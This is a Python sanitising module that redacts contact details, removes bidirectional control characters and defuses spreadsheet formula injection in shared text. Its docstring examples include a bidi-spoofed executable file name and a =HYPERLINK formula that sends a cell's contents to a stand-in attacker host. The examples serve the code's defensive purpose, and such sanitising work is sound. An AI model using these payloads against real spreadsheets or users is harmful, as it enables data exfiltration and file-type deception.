"""Text that leaves the project: what every shared page, table and spreadsheet passes through.

Submission text is written by people outside the project and read by people outside it.
Before any of it is shown or exported:

- contact details (e-mail addresses, phone numbers, the names beside them) are replaced by
  marks (:mod:`soa_analysis.contact_details`, the one definition ingest also uses);
- bidirectional override and isolate characters (U+202A-U+202E, U+2066-U+2069) are
  removed, so text cannot be made to read differently from what it is (a file name
  ``report\\u202egpj.exe`` shown as ``reportexe.jpg``);
- spreadsheet cells that would start a formula (``=``, ``+``, ``-``, ``@``, tab, carriage
  return) get a leading apostrophe, so a cell like ``=HYPERLINK("http://...")`` is text.
"""

from __future__ import annotations

import re

from .contact_details import redact_contact_details

__all__ = ["BIDI_CONTROLS", "strip_bidi_controls", "shareable", "spreadsheet_cell"]

BIDI_CONTROLS = "".join(map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A))))
_BIDI_RE = re.compile(f"[{BIDI_CONTROLS}]")
_FORMULA_START = re.compile(r"^[=+\-@\t\r]")


def strip_bidi_controls(text: str) -> str:
    """``text`` without bidirectional embedding, override and isolate controls.

    Example
    -------
    >>> strip_bidi_controls("invoice\\u202efdp.exe")
    'invoicefdp.exe'
    """
    return _BIDI_RE.sub("", text) if _BIDI_RE.search(text) else text


def shareable(value: object) -> str:
    """Any value from the data as text fit to share: contact details redacted, bidi controls removed.

    Parameters
    ----------
    value : object
        ``None`` and NaN become ``""``; anything else is turned into ``str``.

    Example
    -------
    >>> shareable("Call Jo Example on 0131 496 0000\\u202e")
    'Call [name removed] on [phone removed]'
    """
    if value is None or (isinstance(value, float) and value != value):
        return ""
    return redact_contact_details(strip_bidi_controls(str(value)))


def spreadsheet_cell(value: object) -> object:
    """A value for a CSV or XLSX cell: text made :func:`shareable`, a formula start defused.

    Non-text values (numbers, booleans, missing values) are returned unchanged.

    Example
    -------
    >>> spreadsheet_cell('=HYPERLINK("http://evil.example/x?"&A1, "click")')
    '\\'=HYPERLINK("http://evil.example/x?"&A1, "click")'
    """
    if not isinstance(value, str):
        return value
    text = shareable(value)
    return "'" + text if _FORMULA_START.match(text) else text
